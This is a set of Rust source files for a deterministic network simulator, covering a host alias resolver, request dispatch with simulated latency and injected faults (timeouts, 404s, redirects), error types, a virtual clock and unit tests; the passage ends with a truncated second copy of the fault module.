//! resolver so the synthetic ecosystem can mint links to hosts that were
//! never mounted (NXDOMAIN), hosts that moved (CNAME-style alias), and hosts
//! that exist.

use std::collections::BTreeMap;

/// Result of resolving a host name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Resolution {
    /// The name maps to a mounted service under this canonical name.
    Canonical(String),
    /// The name does not exist.
    NxDomain,
}

/// A flat alias table in front of the service registry.
#[derive(Debug, Default, Clone)]
pub struct Resolver {
    aliases: BTreeMap<String, String>,
}

impl Resolver {
    /// Empty resolver: every mounted host resolves to itself.
    pub fn new() -> Resolver {
        Resolver::default()
    }

    /// Register `alias` → `canonical`. Chains are followed at resolve time
    /// (up to a small bound to defuse accidental cycles).
    pub fn alias(&mut self, alias: &str, canonical: &str) {
        self.aliases
            .insert(alias.to_ascii_lowercase(), canonical.to_ascii_lowercase());
    }

    /// Resolve a name against the set of mounted hosts.
    pub fn resolve(&self, name: &str, is_mounted: impl Fn(&str) -> bool) -> Resolution {
        let mut current = name.to_ascii_lowercase();
        for _ in 0..8 {
            if is_mounted(&current) {
                return Resolution::Canonical(current);
            }
            match self.aliases.get(&current) {
                Some(next) => current = next.clone(),
                None => return Resolution::NxDomain,
            }
        }
        Resolution::NxDomain
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn direct_resolution() {
        let r = Resolver::new();
        let mounted = |h: &str| h == "top.gg";
        assert_eq!(
            r.resolve("TOP.GG", mounted),
            Resolution::Canonical("top.gg".into())
        );
        assert_eq!(r.resolve("gone.example", mounted), Resolution::NxDomain);
    }

    #[test]
    fn alias_chain() {
        let mut r = Resolver::new();
        r.alias("old.example", "mid.example");
        r.alias("mid.example", "new.example");
        let mounted = |h: &str| h == "new.example";
        assert_eq!(
            r.resolve("old.example", mounted),
            Resolution::Canonical("new.example".into())
        );
    }

    #[test]
    fn alias_cycle_terminates() {
        let mut r = Resolver::new();
        r.alias("a.example", "b.example");
        r.alias("b.example", "a.example");
        let mounted = |_: &str| false;
        assert_eq!(r.resolve("a.example", mounted), Resolution::NxDomain);
    }
}
