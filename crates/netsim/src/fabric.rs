//! The network fabric: mounted services, dispatch, faults, and tracing.
//!
//! A [`Network`] is a cheaply-clonable handle to the shared simulation state
//! (virtual clock, RNG, host table, trace log). Components keep their own
//! clone — the crawler, every bot backend, and the honeypot sink all talk to
//! the same fabric, exactly as they would share the same Internet.

use crate::clock::{SimDuration, SimInstant, VirtualClock};
use crate::dns::{Resolution, Resolver};
use crate::error::NetError;
use crate::fault::{FaultOutcome, FaultPlan};
use crate::http::{Request, Response, Status};
use crate::latency::LatencyModel;
use crate::trace::{TraceEntry, TraceLog};
use parking_lot::Mutex;
use rand::rngs::StdRng;
use rand::{RngCore, SeedableRng};
use std::collections::BTreeMap;
use std::sync::Arc;

/// Context handed to a service for one request.
pub struct ServiceCtx<'a> {
    /// Current virtual time.
    pub now: SimInstant,
    /// Deterministic RNG slice for this request.
    pub rng: &'a mut dyn RngCore,
    /// Label of the requesting client (not authenticated — like a
    /// user-agent, it is whatever the client claims).
    pub requester: &'a str,
}

/// A simulated host: anything that can answer an HTTP-shaped request.
///
/// Services are synchronous: the fabric has already accounted for network
/// latency by the time `handle` runs, so handlers just compute a response.
pub trait Service: Send {
    /// Answer one request.
    fn handle(&mut self, req: &Request, ctx: &mut ServiceCtx<'_>) -> Response;
}

/// Blanket impl so closures can be mounted directly in tests.
impl<F> Service for F
where
    F: FnMut(&Request, &mut ServiceCtx<'_>) -> Response + Send,
{
    fn handle(&mut self, req: &Request, ctx: &mut ServiceCtx<'_>) -> Response {
        self(req, ctx)
    }
}

struct HostEntry {
    service: Box<dyn Service>,
    latency: LatencyModel,
    faults: FaultPlan,
}

/// Hosts are individually locked so concurrent requests to *different*
/// hosts run their handlers in parallel; the global lock is only held for
/// DNS, per-request seed derivation, and trace recording.
struct NetworkInner {
    clock: VirtualClock,
    rng: StdRng,
    hosts: BTreeMap<String, Arc<Mutex<HostEntry>>>,
    resolver: Resolver,
    trace: TraceLog,
    dns_latency: SimDuration,
}

/// Shared handle to the simulated network.
#[derive(Clone)]
pub struct Network {
    inner: Arc<Mutex<NetworkInner>>,
}

impl Network {
    /// A fresh network with its own clock, seeded deterministically.
    pub fn new(seed: u64) -> Network {
        Network::with_clock(seed, VirtualClock::new())
    }

    /// A fresh network sharing an existing clock (so the platform simulation
    /// and the network agree on "now").
    pub fn with_clock(seed: u64, clock: VirtualClock) -> Network {
        Network {
            inner: Arc::new(Mutex::new(NetworkInner {
                clock,
                rng: StdRng::seed_from_u64(seed),
                hosts: BTreeMap::new(),
                resolver: Resolver::new(),
                trace: TraceLog::new(),
                dns_latency: SimDuration::from_millis(20),
            })),
        }
    }

    /// The shared virtual clock.
    pub fn clock(&self) -> VirtualClock {
        self.inner.lock().clock.clone()
    }

    /// Mount a service at `host` with an explicit latency model and fault
    /// plan. Remounting a host replaces it.
    pub fn mount_with(
        &self,
        host: &str,
        service: impl Service + 'static,
        latency: LatencyModel,
        faults: FaultPlan,
    ) {
        self.inner.lock().hosts.insert(
            host.to_ascii_lowercase(),
            Arc::new(Mutex::new(HostEntry {
                service: Box::new(service),
                latency,
                faults,
            })),
        );
    }

    /// Mount a healthy, fault-free service at `host`.
    pub fn mount(&self, host: &str, service: impl Service + 'static) {
        self.mount_with(host, service, LatencyModel::healthy(), FaultPlan::none());
    }

    /// Remove a host entirely (it will NXDOMAIN afterwards).
    pub fn unmount(&self, host: &str) -> bool {
        self.inner
            .lock()
            .hosts
            .remove(&host.to_ascii_lowercase())
            .is_some()
    }

    /// Register a DNS-style alias.
    pub fn alias(&self, alias: &str, canonical: &str) {
        self.inner.lock().resolver.alias(alias, canonical);
    }

    /// Is anything mounted at `host` (after aliasing)?
    pub fn is_reachable(&self, host: &str) -> bool {
        let inner = self.inner.lock();
        let mounted = |h: &str| inner.hosts.contains_key(h);
        matches!(
            inner.resolver.resolve(host, mounted),
            Resolution::Canonical(_)
        )
    }

    /// Dispatch a single request with a wait budget of `timeout`.
    ///
    /// This is one network round-trip: DNS resolution, fault roll, latency
    /// sample, service invocation, trace record. Redirects are *not*
    /// followed here — that is client policy (see [`crate::client`]).
    ///
    /// Locking: the global lock is taken twice, briefly — once for DNS plus
    /// per-request seed derivation, once to record the trace entry. The
    /// service handler itself runs under its host's own lock, so requests
    /// to different hosts proceed concurrently. The two global sections and
    /// the host section never nest, which rules out lock-order inversions.
    pub fn dispatch(
        &self,
        requester: &str,
        req: &Request,
        timeout: SimDuration,
    ) -> Result<Response, NetError> {
        let request_bytes = req.url.to_string().len() + req.body.len();

        // Phase 1 (global lock): DNS + one RNG draw that seeds this
        // request's private stream. Exactly one draw per dispatch keeps the
        // global stream a function of dispatch count alone.
        let (entry, clock, canonical, mut rng) = {
            let mut inner = self.inner.lock();
            let inner = &mut *inner;
            let hosts = &inner.hosts;
            let resolution = inner
                .resolver
                .resolve(&req.url.host, |h| hosts.contains_key(h));
            let canonical = match resolution {
                Resolution::Canonical(c) => c,
                Resolution::NxDomain => {
                    inner.clock.advance(inner.dns_latency);
                    inner.trace.record(TraceEntry {
                        at: inner.clock.now(),
                        requester: requester.to_string(),
                        method: req.method,
                        url: req.url.to_string(),
                        status: None,
                        latency: inner.dns_latency,
                        request_bytes,
                    });
                    return Err(NetError::DnsFailure {
                        host: req.url.host.clone(),
                    });
                }
            };
            let entry = Arc::clone(
                inner
                    .hosts
                    .get(&canonical)
                    .expect("resolved host is mounted"),
            );
            let seed = inner.rng.next_u64();
            (
                entry,
                inner.clock.clone(),
                canonical,
                StdRng::seed_from_u64(seed),
            )
        };

        // Phase 2 (host lock): fault roll, latency, service invocation.
        let (result, status, latency) = {
            let mut entry = entry.lock();

            // Fault roll decides whether the real handler ever runs.
            let outcome = if entry.faults.is_none() {
                FaultOutcome::Deliver
            } else {
                entry.faults.roll(&mut rng)
            };

            match outcome {
                FaultOutcome::Refuse => {
                    let lat = SimDuration::from_millis(5);
                    clock.advance(lat);
                    (
                        Err(NetError::ConnectionRefused { host: canonical }),
                        None,
                        lat,
                    )
                }
                FaultOutcome::BlackHole => {
                    clock.advance(timeout);
                    (Err(NetError::Timeout { waited: timeout }), None, timeout)
                }
                FaultOutcome::NotFound
                | FaultOutcome::ServerError
                | FaultOutcome::ExtraRedirect => {
                    let latency = entry.latency.sample(&mut rng);
                    if latency > timeout {
                        clock.advance(timeout);
                        (Err(NetError::Timeout { waited: timeout }), None, timeout)
                    } else {
                        clock.advance(latency);
                        let resp = match outcome {
                            FaultOutcome::NotFound => Response::status(Status::NotFound),
                            FaultOutcome::ServerError => Response::status(Status::InternalError),
                            _ => {
                                // Bounce the client through the same URL once
                                // more; combined with heavy-tail latency this
                                // reproduces the paper's "slow redirect links".
                                Response::redirect(&req.url.to_string())
                            }
                        };
                        let status = resp.status;
                        (Ok(resp), Some(status), latency)
                    }
                }
                FaultOutcome::Deliver => {
                    let latency = entry.latency.sample(&mut rng);
                    if latency > timeout {
                        clock.advance(timeout);
                        (Err(NetError::Timeout { waited: timeout }), None, timeout)
                    } else {
                        clock.advance(latency);
                        let now = clock.now();
                        let mut ctx = ServiceCtx {
                            now,
                            rng: &mut rng,
                            requester,
                        };
                        let resp = entry.service.handle(req, &mut ctx);
                        let status = resp.status;
                        (Ok(resp), Some(status), latency)
                    }
                }
            }
        };

        // Phase 3 (global lock): record the round-trip.
        self.inner.lock().trace.record(TraceEntry {
            at: clock.now(),
            requester: requester.to_string(),
            method: req.method,
            url: req.url.to_string(),
            status,
            latency,
            request_bytes,
        });
        result
    }

    /// Run `f` over the trace log (read-only access without cloning).
    pub fn with_trace<T>(&self, f: impl FnOnce(&TraceLog) -> T) -> T {
        f(&self.inner.lock().trace)
    }

    /// Number of requests observed so far.
    pub fn request_count(&self) -> usize {
        self.inner.lock().trace.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::{Method, Url};

    fn echo_service() -> impl Service {
        |req: &Request, _ctx: &mut ServiceCtx<'_>| {
            Response::ok(format!("{} {}", req.method, req.url.path))
        }
    }

    #[test]
    fn dispatch_reaches_mounted_service() {
        let net = Network::new(1);
        net.mount("example.com", echo_service());
        let resp = net
            .dispatch(
                "t",
                &Request::get(Url::https("example.com", "/hello")),
                SimDuration::from_secs(10),
            )
            .unwrap();
        assert_eq!(resp.text(), "GET /hello");
        assert!(
            net.clock().now() > SimInstant::EPOCH,
            "latency advanced the clock"
        );
    }

    #[test]
    fn unknown_host_is_dns_failure() {
        let net = Network::new(1);
        let err = net
            .dispatch(
                "t",
                &Request::get(Url::https("nope.example", "/")),
                SimDuration::from_secs(10),
            )
            .unwrap_err();
        assert!(matches!(err, NetError::DnsFailure { .. }));
    }

    #[test]
    fn alias_resolves_to_canonical() {
        let net = Network::new(1);
        net.mount("new.example", echo_service());
        net.alias("old.example", "new.example");
        assert!(net.is_reachable("old.example"));
        let resp = net
            .dispatch(
                "t",
                &Request::get(Url::https("old.example", "/x")),
                SimDuration::from_secs(10),
            )
            .unwrap();
        assert!(resp.status.is_success());
    }

    #[test]
    fn black_hole_times_out_and_burns_budget() {
        let net = Network::new(1);
        net.mount_with(
            "hole.example",
            echo_service(),
            LatencyModel::Fixed { ms: 10 },
            FaultPlan {
                black_hole: 1.0,
                ..FaultPlan::default()
            },
        );
        let before = net.clock().now();
        let err = net
            .dispatch(
                "t",
                &Request::get(Url::https("hole.example", "/")),
                SimDuration::from_secs(5),
            )
            .unwrap_err();
        assert_eq!(
            err,
            NetError::Timeout {
                waited: SimDuration::from_secs(5)
            }
        );
        assert_eq!(net.clock().now().duration_since(before).as_millis(), 5000);
    }

    #[test]
    fn slow_host_times_out() {
        let net = Network::new(1);
        net.mount_with(
            "slow.example",
            echo_service(),
            LatencyModel::Fixed { ms: 9000 },
            FaultPlan::none(),
        );
        let err = net
            .dispatch(
                "t",
                &Request::get(Url::https("slow.example", "/")),
                SimDuration::from_secs(5),
            )
            .unwrap_err();
        assert!(matches!(err, NetError::Timeout { .. }));
    }

    #[test]
    fn forced_faults_replace_response() {
        let net = Network::new(1);
        net.mount_with(
            "bad.example",
            echo_service(),
            LatencyModel::Fixed { ms: 1 },
            FaultPlan {
                not_found: 1.0,
                ..FaultPlan::default()
            },
        );
        let resp = net
            .dispatch(
                "t",
                &Request::get(Url::https("bad.example", "/")),
                SimDuration::from_secs(5),
            )
            .unwrap();
        assert_eq!(resp.status, Status::NotFound);
    }

    #[test]
    fn extra_redirect_points_back_at_url() {
        let net = Network::new(1);
        net.mount_with(
            "loop.example",
            echo_service(),
            LatencyModel::Fixed { ms: 1 },
            FaultPlan {
                extra_redirect: 1.0,
                ..FaultPlan::default()
            },
        );
        let url = Url::https("loop.example", "/page");
        let resp = net
            .dispatch("t", &Request::get(url.clone()), SimDuration::from_secs(5))
            .unwrap();
        assert!(resp.status.is_redirect());
        assert_eq!(resp.header("location"), Some(url.to_string().as_str()));
    }

    #[test]
    fn trace_records_every_dispatch() {
        let net = Network::new(1);
        net.mount("example.com", echo_service());
        for i in 0..3 {
            let _ = net.dispatch(
                "crawler",
                &Request::get(Url::https("example.com", &format!("/p{i}"))),
                SimDuration::from_secs(5),
            );
        }
        let _ = net.dispatch(
            "crawler",
            &Request::get(Url::https("gone", "/")),
            SimDuration::from_secs(5),
        );
        assert_eq!(net.request_count(), 4);
        net.with_trace(|t| {
            assert_eq!(t.by_requester("crawler").len(), 4);
            assert_eq!(t.matching_url("/p1").len(), 1);
            assert_eq!(t.entries().last().unwrap().status, None);
        });
    }

    #[test]
    fn unmount_causes_nxdomain() {
        let net = Network::new(1);
        net.mount("x.example", echo_service());
        assert!(net.is_reachable("x.example"));
        assert!(net.unmount("x.example"));
        assert!(!net.is_reachable("x.example"));
        assert!(!net.unmount("x.example"));
    }

    #[test]
    fn deterministic_across_runs() {
        let run = || {
            let net = Network::new(42);
            net.mount_with(
                "r.example",
                echo_service(),
                LatencyModel::healthy(),
                FaultPlan {
                    not_found: 0.3,
                    ..FaultPlan::default()
                },
            );
            let mut outcomes = Vec::new();
            for _ in 0..20 {
                let r = net.dispatch(
                    "t",
                    &Request::get(Url::https("r.example", "/")),
                    SimDuration::from_secs(5),
                );
                outcomes.push(r.map(|r| r.status.code()).map_err(|e| e.to_string()));
            }
            (outcomes, net.clock().now())
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn head_requests_dispatch_like_get() {
        let net = Network::new(1);
        net.mount("example.com", echo_service());
        let resp = net
            .dispatch(
                "t",
                &Request {
                    method: Method::Head,
                    ..Request::get(Url::https("example.com", "/h"))
                },
                SimDuration::from_secs(5),
            )
            .unwrap();
        assert_eq!(resp.text(), "HEAD /h");
    }
}
