//! Error taxonomy for the virtual network.
//!
//! The variants mirror the failure modes the paper's crawler had to handle
//! (§3 Data Collection): timeouts on slow redirects, vanished elements,
//! rate-limit pushback, and plain broken links.

use crate::clock::SimDuration;
use std::fmt;

/// Everything that can go wrong between a client and a simulated host.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NetError {
    /// The request exceeded the client's wait budget.
    Timeout {
        /// How long the client waited before giving up.
        waited: SimDuration,
    },
    /// No host is mounted at (or resolvable for) this name.
    DnsFailure {
        /// The name that failed to resolve.
        host: String,
    },
    /// The host exists but refused the connection (service taken down,
    /// simulated outage, ...).
    ConnectionRefused {
        /// The refusing host.
        host: String,
    },
    /// The server told the client to slow down (HTTP 429 semantics).
    RateLimited {
        /// Server-suggested wait before retrying.
        retry_after: SimDuration,
    },
    /// A redirect chain exceeded the client's hop budget.
    TooManyRedirects {
        /// Number of hops followed before giving up.
        hops: usize,
    },
    /// The response or URL could not be parsed.
    Malformed {
        /// Human-readable description of what was wrong.
        reason: String,
    },
    /// The client exhausted its retry budget; wraps the final error.
    RetriesExhausted {
        /// Attempts made (including the first).
        attempts: u32,
        /// Stringified final error (kept flat to avoid boxed recursion).
        last: String,
    },
}

impl NetError {
    /// Whether a well-behaved client may retry after this error.
    ///
    /// Rate limiting and timeouts are transient; DNS failures and malformed
    /// URLs are not — the paper's scraper classified those links as invalid
    /// rather than hammering them.
    pub fn is_transient(&self) -> bool {
        matches!(
            self,
            NetError::Timeout { .. }
                | NetError::RateLimited { .. }
                | NetError::ConnectionRefused { .. }
        )
    }
}

impl fmt::Display for NetError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NetError::Timeout { waited } => write!(f, "timed out after {waited}"),
            NetError::DnsFailure { host } => write!(f, "cannot resolve host {host:?}"),
            NetError::ConnectionRefused { host } => write!(f, "connection refused by {host:?}"),
            NetError::RateLimited { retry_after } => {
                write!(f, "rate limited; retry after {retry_after}")
            }
            NetError::TooManyRedirects { hops } => {
                write!(f, "redirect chain exceeded {hops} hops")
            }
            NetError::Malformed { reason } => write!(f, "malformed: {reason}"),
            NetError::RetriesExhausted { attempts, last } => {
                write!(f, "gave up after {attempts} attempts; last error: {last}")
            }
        }
    }
}

impl std::error::Error for NetError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn transience_classification() {
        assert!(NetError::Timeout {
            waited: SimDuration::from_secs(5)
        }
        .is_transient());
        assert!(NetError::RateLimited {
            retry_after: SimDuration::from_secs(1)
        }
        .is_transient());
        assert!(NetError::ConnectionRefused { host: "x".into() }.is_transient());
        assert!(!NetError::DnsFailure { host: "x".into() }.is_transient());
        assert!(!NetError::Malformed {
            reason: "bad".into()
        }
        .is_transient());
        assert!(!NetError::TooManyRedirects { hops: 10 }.is_transient());
    }

    #[test]
    fn display_is_informative() {
        let e = NetError::DnsFailure {
            host: "top.gg.invalid".into(),
        };
        assert!(e.to_string().contains("top.gg.invalid"));
        let e = NetError::RetriesExhausted {
            attempts: 3,
            last: "timeout".into(),
        };
        assert!(e.to_string().contains('3'));
    }
}
