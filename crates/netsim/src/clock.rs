//! Virtual time.
//!
//! The entire simulation shares one [`VirtualClock`]. Nothing in the
//! workspace reads the OS clock; components that need "now" hold a clone of
//! the clock handle, and only the network fabric (and test harnesses)
//! advance it. This is what makes every experiment in EXPERIMENTS.md exactly
//! reproducible.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// A span of virtual time with millisecond resolution.
///
/// Milliseconds are plenty for a crawling/honeypot simulation whose real
/// counterpart operated on second-scale politeness delays.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimDuration(u64);

impl SimDuration {
    /// The zero-length duration.
    pub const ZERO: SimDuration = SimDuration(0);

    /// Duration from whole milliseconds.
    pub const fn from_millis(ms: u64) -> Self {
        SimDuration(ms)
    }

    /// Duration from whole seconds.
    pub const fn from_secs(secs: u64) -> Self {
        SimDuration(secs * 1000)
    }

    /// Duration from whole minutes.
    pub const fn from_mins(mins: u64) -> Self {
        SimDuration(mins * 60_000)
    }

    /// Total length in milliseconds.
    pub const fn as_millis(self) -> u64 {
        self.0
    }

    /// Total length in (truncated) seconds.
    pub const fn as_secs(self) -> u64 {
        self.0 / 1000
    }

    /// Saturating sum of two durations.
    pub const fn saturating_add(self, other: SimDuration) -> SimDuration {
        SimDuration(self.0.saturating_add(other.0))
    }

    /// Saturating difference of two durations.
    pub const fn saturating_sub(self, other: SimDuration) -> SimDuration {
        SimDuration(self.0.saturating_sub(other.0))
    }

    /// Scale the duration by an integer factor, saturating.
    pub const fn saturating_mul(self, factor: u64) -> SimDuration {
        SimDuration(self.0.saturating_mul(factor))
    }
}

impl std::ops::Add for SimDuration {
    type Output = SimDuration;
    fn add(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 + rhs.0)
    }
}

impl std::ops::AddAssign for SimDuration {
    fn add_assign(&mut self, rhs: SimDuration) {
        self.0 += rhs.0;
    }
}

impl fmt::Display for SimDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.0 >= 60_000 {
            write!(
                f,
                "{}m{:02}.{:03}s",
                self.0 / 60_000,
                (self.0 % 60_000) / 1000,
                self.0 % 1000
            )
        } else if self.0 >= 1000 {
            write!(f, "{}.{:03}s", self.0 / 1000, self.0 % 1000)
        } else {
            write!(f, "{}ms", self.0)
        }
    }
}

/// A point in virtual time, measured from the start of the simulation.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimInstant(u64);

impl SimInstant {
    /// The origin of simulated time.
    pub const EPOCH: SimInstant = SimInstant(0);

    /// Construct an instant at `ms` milliseconds after the epoch.
    pub const fn from_millis(ms: u64) -> Self {
        SimInstant(ms)
    }

    /// Milliseconds since the simulation epoch.
    pub const fn as_millis(self) -> u64 {
        self.0
    }

    /// Virtual time elapsed since `earlier` (zero if `earlier` is later).
    pub const fn duration_since(self, earlier: SimInstant) -> SimDuration {
        SimDuration(self.0.saturating_sub(earlier.0))
    }

    /// The instant `d` after this one.
    pub const fn checked_add(self, d: SimDuration) -> SimInstant {
        SimInstant(self.0.saturating_add(d.0))
    }
}

impl std::ops::Add<SimDuration> for SimInstant {
    type Output = SimInstant;
    fn add(self, rhs: SimDuration) -> SimInstant {
        SimInstant(self.0 + rhs.0)
    }
}

impl fmt::Display for SimInstant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "T+{}", SimDuration(self.0))
    }
}

/// Shared, monotonically advancing virtual clock.
///
/// Cloning is cheap and all clones observe the same time. The clock is
/// internally atomic so the concurrent bot runner can read it from worker
/// threads, but *advancing* it is the simulation driver's job.
#[derive(Clone, Debug, Default)]
pub struct VirtualClock {
    now_ms: Arc<AtomicU64>,
}

impl VirtualClock {
    /// A new clock at the epoch.
    pub fn new() -> Self {
        Self::default()
    }

    /// Current virtual time.
    pub fn now(&self) -> SimInstant {
        SimInstant(self.now_ms.load(Ordering::SeqCst))
    }

    /// Advance the clock by `d` and return the new time.
    pub fn advance(&self, d: SimDuration) -> SimInstant {
        let new = self.now_ms.fetch_add(d.as_millis(), Ordering::SeqCst) + d.as_millis();
        SimInstant(new)
    }

    /// Advance the clock to `t` if `t` is in the future; otherwise leave it.
    ///
    /// Used when replaying scheduled events: time never runs backwards.
    pub fn advance_to(&self, t: SimInstant) -> SimInstant {
        self.now_ms.fetch_max(t.as_millis(), Ordering::SeqCst);
        self.now()
    }

    /// Block virtually until `t`: identical to [`Self::advance_to`] but reads
    /// better at call sites that model waiting.
    pub fn sleep_until(&self, t: SimInstant) -> SimInstant {
        self.advance_to(t)
    }

    /// Sleep for `d` of virtual time.
    pub fn sleep(&self, d: SimDuration) -> SimInstant {
        self.advance(d)
    }
}

/// The workspace's one clock abstraction, re-exported from `obs` so that
/// consumers reading time through netsim (the scheduler, the observability
/// layer, the honeypot driver) all name the same trait instead of growing
/// parallel clock interfaces.
pub use obs::Clock;

/// The virtual clock is the workspace's [`obs::Clock`]: span timestamps and
/// event log entries carry virtual milliseconds, so traces reproduce exactly.
impl obs::Clock for VirtualClock {
    fn now_millis(&self) -> u64 {
        self.now().as_millis()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn durations_convert_between_units() {
        assert_eq!(SimDuration::from_secs(2).as_millis(), 2000);
        assert_eq!(SimDuration::from_mins(3).as_secs(), 180);
        assert_eq!(SimDuration::from_millis(1500).as_secs(), 1);
    }

    #[test]
    fn duration_arithmetic_saturates() {
        let max = SimDuration::from_millis(u64::MAX);
        assert_eq!(max.saturating_add(SimDuration::from_millis(1)), max);
        assert_eq!(
            SimDuration::from_millis(5).saturating_sub(SimDuration::from_millis(9)),
            SimDuration::ZERO
        );
        assert_eq!(max.saturating_mul(2), max);
    }

    #[test]
    fn clock_advances_monotonically() {
        let clock = VirtualClock::new();
        assert_eq!(clock.now(), SimInstant::EPOCH);
        clock.advance(SimDuration::from_millis(10));
        assert_eq!(clock.now().as_millis(), 10);
        // advance_to into the past is a no-op
        clock.advance_to(SimInstant::from_millis(5));
        assert_eq!(clock.now().as_millis(), 10);
        clock.advance_to(SimInstant::from_millis(50));
        assert_eq!(clock.now().as_millis(), 50);
    }

    #[test]
    fn clones_share_time() {
        let a = VirtualClock::new();
        let b = a.clone();
        a.advance(SimDuration::from_secs(1));
        assert_eq!(b.now().as_millis(), 1000);
    }

    #[test]
    fn instant_duration_since() {
        let early = SimInstant::from_millis(100);
        let late = SimInstant::from_millis(350);
        assert_eq!(late.duration_since(early).as_millis(), 250);
        assert_eq!(early.duration_since(late), SimDuration::ZERO);
    }

    #[test]
    fn virtual_clock_implements_obs_clock() {
        let clock = VirtualClock::new();
        clock.advance(SimDuration::from_millis(42));
        let as_obs: &dyn obs::Clock = &clock;
        assert_eq!(as_obs.now_millis(), 42);
    }

    #[test]
    fn display_formats() {
        assert_eq!(SimDuration::from_millis(45).to_string(), "45ms");
        assert_eq!(SimDuration::from_millis(1500).to_string(), "1.500s");
        assert_eq!(SimDuration::from_millis(61_001).to_string(), "1m01.001s");
        assert_eq!(SimInstant::from_millis(45).to_string(), "T+45ms");
    }
}
