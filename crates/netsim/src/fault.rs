//! Fault injection.
//!
//! A [`FaultPlan`] perturbs a host's responses before they reach the client:
//! hard timeouts, 404s, 5xx errors, and gratuitous redirect hops. The paper's
//! 26% "invalid permissions" bucket is composed of exactly these failure
//! modes (invalid invite links, removed bots, slow-redirect timeouts), so the
//! synthetic ecosystem assigns fault plans to hosts to recreate that mix.

use rand::Rng;
use serde::{Deserialize, Serialize};

/// What the fabric decided to do to a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultOutcome {
    /// Deliver the service's real response.
    Deliver,
    /// Never answer; the client will burn its timeout budget.
    BlackHole,
    /// Replace the response with a 404.
    NotFound,
    /// Replace the response with a 500.
    ServerError,
    /// Prepend one extra redirect hop through the same host.
    ExtraRedirect,
    /// Refuse the connection outright.
    Refuse,
}

/// Per-host fault probabilities. All fields are probabilities in `[0, 1]`
/// and are evaluated in the declared order; the first hit wins.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct FaultPlan {
    /// Probability the host never answers.
    pub black_hole: f64,
    /// Probability of a spurious 404.
    pub not_found: f64,
    /// Probability of a 500.
    pub server_error: f64,
    /// Probability of inserting an extra redirect hop.
    pub extra_redirect: f64,
    /// Probability the connection is refused.
    pub refuse: f64,
}

impl FaultPlan {
    /// A host that never misbehaves.
    pub fn none() -> FaultPlan {
        FaultPlan::default()
    }

    /// A host with light background noise (sub-percent errors) — what a
    /// healthy production site looks like from outside.
    pub fn background_noise() -> FaultPlan {
        FaultPlan { black_hole: 0.002, not_found: 0.0, server_error: 0.005, extra_redirect: 0.0, refuse: 0.001 }
    }

    /// A decaying host typical of abandoned bot websites: frequent dead
    /// responses and redirect loops.
    pub fn decaying() -> FaultPlan {
        FaultPlan { black_hole: 0.25, not_found: 0.30, server_error: 0.10, extra_redirect: 0.20, refuse: 0.05 }
    }

    /// Roll the dice for one request.
    pub fn roll<R: Rng + ?Sized>(&self, rng: &mut R) -> FaultOutcome {
        // Evaluate sequentially so the plan reads as "first matching fault".
        let p: f64 = rng.gen();
        let mut acc = 0.0;
        for (prob, outcome) in [
            (self.black_hole, FaultOutcome::BlackHole),
            (self.not_found, FaultOutcome::NotFound),
            (self.server_error, FaultOutcome::ServerError),
            (self.extra_redirect, FaultOutcome::ExtraRedirect),
            (self.refuse, FaultOutcome::Refuse),
        ] {
            acc += prob.clamp(0.0, 1.0);
            if p < acc {
                return outcome;
            }
        }
        FaultOutcome::Deliver
    }

    /// True when all probabilities are zero (fast path for the fabric).
    pub fn is_none(&self) -> bool {
        self.black_hole == 0.0
            && self.not_found == 0.0
            && self.server_error == 0.0
            && self.extra_redirect == 0.0
            && self.refuse == 0.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn none_always_delivers() {
        let mut rng = StdRng::seed_from_u64(1);
        let plan = FaultPlan::none();
        assert!(plan.is_none());
        for _ in 0..100 {
            assert_eq!(plan.roll(&mut rng), FaultOutcome::Deliver);
        }
    }

    #[test]
    fn certain_fault_always_fires() {
        let mut rng = StdRng::seed_from_u64(2);
        let plan = FaultPlan { not_found: 1.0, ..FaultPlan::default() };
        for _ in 0..50 {
            assert_eq!(plan.roll(&mut rng), FaultOutcome::NotFound);
        }
    }

    #[test]
    fn mixture_roughly_matches_probabilities() {
        let mut rng = StdRng::seed_from_u64(3);
        let plan = FaultPlan { black_hole: 0.2, not_found: 0.3, ..FaultPlan::default() };
        let mut holes = 0;
        let mut nf = 0;
        let mut ok = 0;
        const N: usize = 10_000;
        for _ in 0..N {
            match plan.roll(&mut rng) {
                FaultOutcome::BlackHole => holes += 1,
                FaultOutcome::NotFound => nf += 1,
                FaultOutcome::Deliver => ok += 1,
                other => panic!("unexpected outcome {other:?}"),
            }
        }
        let frac = |n: usize| n as f64 / N as f64;
        assert!((frac(holes) - 0.2).abs() < 0.02, "black holes {}", frac(holes));
        assert!((frac(nf) - 0.3).abs() < 0.02, "not found {}", frac(nf));
        assert!((frac(ok) - 0.5).abs() < 0.02, "ok {}", frac(ok));
    }

    #[test]
    fn presets_are_sane() {
        assert!(FaultPlan::background_noise().black_hole < 0.01);
        let d = FaultPlan::decaying();
        assert!(d.black_hole + d.not_found + d.server_error + d.extra_redirect + d.refuse < 1.0);
    }
}
