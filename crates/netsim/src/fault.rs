//! Fault injection.
//!
//! A [`FaultPlan`] perturbs a host's responses before they reach the client:
//! hard timeouts, 404s, 5xx errors, and gratuitous redirect hops. The paper's
//! 26% "invalid permissions" bucket is composed of exactly these failure
